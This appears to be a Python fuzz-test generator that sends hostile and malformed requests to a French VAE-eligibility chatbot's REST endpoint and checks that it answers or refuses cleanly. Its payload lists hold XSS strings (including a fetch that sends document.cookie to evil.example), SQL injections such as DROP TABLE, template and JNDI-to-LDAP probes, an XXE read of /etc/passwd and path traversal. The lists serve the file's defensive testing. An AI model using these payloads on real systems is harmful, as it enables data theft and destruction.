"""A seeded generator of hostile and broken requests to the REST channel.

Each `Case` is one HTTP request and what it must get: an answer (200 with at least one French text), a
refusal (400), or either of the two when the request is ambiguous (a JSON body sent as text/plain, for
instance). Never a 5xx. The same seed gives the same requests: VAE_FUZZ_SEED and VAE_FUZZ_COUNT change them.
"""
from __future__ import annotations

import json
import random
from dataclasses import dataclass, field

ANSWER, REFUSED, EITHER = "answer", "refused", "either"

CONTROL = [chr(c) for c in range(0, 32)] + ["\x7f", "\x85"] + [chr(c) for c in range(0x80, 0xa0)]
BIDI_AND_INVISIBLE = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d",
                      "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\ufeff", "\u2060", "\u00ad", "\ufff9"]
EMOJI = ["🙂", "😡", "👍🏽", "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇫🇷", "💶", "🚚", "❤️", "🤖", "🧑🏿‍⚕️", "🔥" * 20]
SCRIPTS = ["مرحبا، هل أنا مؤهل؟", "我可以申请吗？", "Могу ли я участвовать?", "क्या मैं पात्र हूँ?", "אני זכאי?",
           "ฉันมีสิทธิ์ไหม", "Είμαι επιλέξιμος;", "こんにちは、資格はありますか", "안녕하세요", "Ṭhïs ïs ŵëïrd",
           "ᚠᚢᚦᚨᚱᚲ", "𝕰𝖑𝖎𝖌𝖎𝖇𝖑𝖊", "Z̴͍̈a̷̰̓l̶̙͝g̸̱̈́o̵̰͊"]
HTML_JS = ["<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "javascript:alert(1)",
           "<iframe src=//evil.example></iframe>", "\"><svg/onload=alert(1)>", "<a href='x'>clic</a>",
           "</textarea><script>fetch('//evil.example?c='+document.cookie)</script>", "&lt;b&gt;gras&lt;/b&gt;",
           "<style>*{display:none}</style>", "<!--", "]]>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>"]
SQL = ["'; DROP TABLE events; --", "1' OR '1'='1", "\" OR 1=1 --", "UNION SELECT password FROM users",
       "'); DELETE FROM conversations; --", "%' AND sleep(10) --", "admin'--", "1; SELECT pg_sleep(10)"]
TEMPLATES = ["{{7*7}}", "{% for x in range(10) %}x{% endfor %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{age}",
             "{0.__class__.__mro__}", "%s%s%s%s%n", "{annual_cap}", "{{config}}", "${jndi:ldap://evil.example/a}",
             "{{ self.__init__.__globals__ }}", "[[${7*7}]]", "{sector!r:>{width}}", "%(age)s"]
COMMANDS = ['/restart', '/session_start', '/inform{"age": 200}', '/inform{"age": -5}', '/inform{"age": 1e309}',
            '/inform{"age": "deux cents"}', '/inform{"age": [1, 2, 3]}', '/inform{"sector": {"nested": true}}',
            '/inform{"age": 200, "sector": "' + "x" * 300 + '"}', '/check_eligibility', '/faq', '/faq/financement',
            '/nlu_fallback', '/action_eligibility_verdict', '/inform@2.5{"age": 30}', '/inform{not json',
            '/inform{"age": 200}}}}', '//restart', '/ restart', '/stop', '/start_over', '/inexistant',
            '/inform{"verdict": {"eligible": true}}', '/inform{"requested_slot": null}', '/', '///']
FRENCH = ["Bonjour", "Suis-je éligible ?", "C'est quoi la VAE inversée ?", "Comment est financée la VAE inversée ?",
          "j'ai 30 ans", "je veux être maçon", "Trouver un emploi", "Je suis salarié", "merci", "au revoir",
          "Quel est mon OPCO ?", "passer", "recommencer", "laisse tomber", "trois cents ans", "né en 1990"]
NUMBERISH = ["-5", "0", "1e308", "NaN", "Infinity", "∞", "2³", "١٢", "30.5 ans", "999999999999999999999", "0x1F",
             "-0", "12/12/2012", "31/02/2000", "né le 99/99/9999"]


@dataclass
class Case:
    """One request: a JSON body (`body`) or raw bytes (`data`) with a content type, and what it must get."""

    kind: str
    expect: str
    body: object = None
    data: bytes | None = None
    content_type: str = "application/json"
    method: str = "POST"
    headers: dict = field(default_factory=dict)

    def request_kwargs(self) -> dict:
        if self.data is not None:
            return {"data": self.data, "headers": {"Content-Type": self.content_type, **self.headers}}
        return {"data": json.dumps(self.body).encode(), "headers": {"Content-Type": self.content_type, **self.headers}}


class HostileInputs:
    """Seeded generator; `cases(n)` returns n requests mixing every family below."""

    def __init__(self, seed: int, senders: int = 120):
        self.rng = random.Random(seed)
        self.senders = [f"fuzz-{seed}-{i}" for i in range(senders)]

    def sender(self) -> str:
        return self.rng.choice(self.senders)

    # --- messages (valid bodies: each gets a French answer) --------------------------------------------------

    def sprinkle(self, text: str, pool: list[str], count: int) -> str:
        chars = list(text)
        for _ in range(count):
            chars.insert(self.rng.randrange(len(chars) + 1), self.rng.choice(pool))
        return "".join(chars)

    def random_unicode(self, length: int) -> str:
        ranges = [(0x20, 0x7e), (0xa0, 0x24f), (0x370, 0x3ff), (0x400, 0x4ff), (0x590, 0x6ff), (0x900, 0x97f),
                  (0x2000, 0x206f), (0x3040, 0x30ff), (0x4e00, 0x9fff), (0xd800, 0xdfff), (0xe000, 0xf8ff),
                  (0xfe00, 0xfe0f), (0x1f300, 0x1faff), (0x10000, 0x10ffff)]
        out = []
        for _ in range(length):
            low, high = self.rng.choice(ranges)
            out.append(chr(self.rng.randint(low, high)))
        return "".join(out)

    def message(self) -> tuple[str, str]:
        """(family, text) of a message the bot must answer."""
        rng = self.rng
        family = rng.choice(["empty", "long", "control", "bidi", "emoji", "scripts", "html", "sql", "template",
                             "command", "french", "numbers", "unicode", "mixed", "near_limit", "null_bytes"])
        if family == "empty":
            text = rng.choice(["", " ", "\n", "\t\t", "\u3000", "\u00a0\u2003", " \n \r\n ", "\u200b\u200b",
                               "\u202e\u202c", "\x00", "\x1b[2J"])
        elif family == "long":
            unit = rng.choice(["a", "é", "🙂", "Suis-je éligible ? ", "<script>", "\u202e", self.random_unicode(7)])
            text = unit * (rng.randint(10_001, 15_000) // len(unit) + 1) if rng.random() < 0.6 \
                else unit * (1_001 // len(unit) + 1)
        elif family == "control":
            text = self.sprinkle(rng.choice(FRENCH), CONTROL, rng.randint(1, 8))
        elif family == "bidi":
            text = self.sprinkle(rng.choice(FRENCH + SQL), BIDI_AND_INVISIBLE, rng.randint(1, 6))
        elif family == "emoji":
            text = " ".join(rng.choice(EMOJI + FRENCH) for _ in range(rng.randint(1, 6)))
        elif family == "scripts":
            text = rng.choice(SCRIPTS)
        elif family == "html":
            text = rng.choice(HTML_JS)
        elif family == "sql":
            text = rng.choice(SQL)
        elif family == "template":
            text = rng.choice(TEMPLATES)
        elif family == "command":
            text = rng.choice(COMMANDS)
            if rng.random() < 0.3:
                text = rng.choice(["  ", "\u200b", "\n", "\u202e"]) + text
        elif family == "french":
            text = rng.choice(FRENCH)
        elif family == "numbers":
            text = rng.choice(NUMBERISH)
        elif family == "unicode":
            text = self.random_unicode(rng.randint(1, 80))
        elif family == "mixed":
            parts = [FRENCH, HTML_JS, SQL, TEMPLATES, COMMANDS, SCRIPTS, EMOJI, NUMBERISH]
            text = " ".join(rng.choice(rng.choice(parts)) for _ in range(rng.randint(2, 6)))
        elif family == "near_limit":
            text = ("j'ai 30 ans " * 100)[: rng.choice([999, 1000])]
        else:
            text = self.sprinkle(rng.choice(FRENCH), ["\x00"], rng.randint(1, 3))
        return family, text

    def valid_case(self) -> Case:
        family, text = self.message()
        body: dict = {"sender": self.sender(), "message": text}
        extra = self.rng.random()
        if extra < 0.05:
            body["metadata"] = self.rng.choice(["x", [], 5, None, {"a": {"b": [1, 2]}}, True])
        elif extra < 0.08:
            body["unknown"] = {"key": list(range(5))}
        elif extra < 0.10:
            body["sender"] = self.rng.choice(["é" * 128, "🙂", " padded ", "<script>", "'; DROP TABLE x; --",
                                              "../../etc/passwd", "a/b?c#d", "\u202etxet"])
        return Case(f"message:{family}", ANSWER, body=body)

    # --- broken requests (a clean refusal) ------------------------------------------------------------------

    def broken_case(self) -> Case:
        rng = self.rng
        sender = self.sender()
        family = rng.choice(["not_json", "wrong_shape", "wrong_types", "bad_sender", "content_type", "huge",
                             "deep", "encoding", "method"])
        if family == "not_json":
            data = rng.choice([b"", b"{", b"}", b"{\"sender\": ", b"sender=a&message=b", b"\x00\x01\x02",
                               b"<xml/>", b"{'sender': 'a', 'message': 'b'}", b"NaN", b"[1, 2", b"\"unterminated",
                               b'{"sender": "a", "message": "b"', b'{"sender": "a",, "message": "b"}'])
            return Case("broken:not_json", REFUSED, data=data)
        if family == "wrong_shape":
            body = rng.choice([[], [{"sender": sender, "message": "Bonjour"}], None, 42, 3.14, "Bonjour", True,
                               {"message": "Bonjour"}, {}, {"sender": sender}, {"Sender": sender, "Message": "x"}])
            expect = ANSWER if body == {"sender": sender} else REFUSED  # no message: the "empty message" answer
            return Case("broken:wrong_shape", expect, body=body)
        if family == "wrong_types":
            body = {"sender": sender, "message": rng.choice([42, 3.5, True, None, ["Bonjour"], {"text": "x"},
                                                              [None], {"": ""}, -1, 1e308])}
            expect = ANSWER if body["message"] is None else REFUSED
            return Case("broken:wrong_types", expect, body=body)
        if family == "bad_sender":
            body = {"sender": rng.choice([None, 42, "", "   ", "x" * 129, ["a"], {"id": "a"}, True, 0.5]),
                    "message": "Bonjour"}
            return Case("broken:bad_sender", REFUSED, body=body)
        if family == "content_type":
            content_type = rng.choice(["text/plain", "application/x-www-form-urlencoded", "multipart/form-data",
                                       "application/xml", "", "application/json; charset=latin-1",
                                       "image/png", "application/octet-stream"])
            if rng.random() < 0.5:  # a JSON body under the wrong name: refusing or answering are both fine
                return Case("broken:content_type", EITHER,
                            body={"sender": sender, "message": "Bonjour"}, content_type=content_type)
            return Case("broken:content_type", REFUSED, data=b"sender=a&message=Bonjour", content_type=content_type)
        if family == "huge":
            size = rng.choice([200_000, 1_000_000, 3_000_000])
            if rng.random() < 0.5:
                return Case("broken:huge_message", ANSWER, body={"sender": sender, "message": "a" * size})
            return Case("broken:huge_garbage", REFUSED, data=bytes(rng.getrandbits(8) for _ in range(size // 50)) * 50)
        if family == "deep":
            depth = rng.choice([100, 5_000, 50_000])
            return Case("broken:deep_json", REFUSED, data=(b"[" * depth + b"]" * depth))
        if family == "encoding":
            data = rng.choice([b'{"sender": "a", "message": "\xff\xfe\xfd"}', b'\xef\xbb\xbf{"sender": "a"}',
                               '{"sender": "a", "message": "é"}'.encode("utf-16"),
                               b'{"sender": "a", "message": "\\ud800"}'])
            expect = ANSWER if data.endswith(b'"\\ud800"}') else EITHER
            return Case("broken:encoding", expect, data=data)
        return Case("broken:method", REFUSED, method=rng.choice(["GET", "PUT", "DELETE", "PATCH"]),
                    body={"sender": sender, "message": "Bonjour"})

    def cases(self, count: int, broken_share: float = 0.3) -> list[Case]:
        return [self.broken_case() if self.rng.random() < broken_share else self.valid_case() for _ in range(count)]
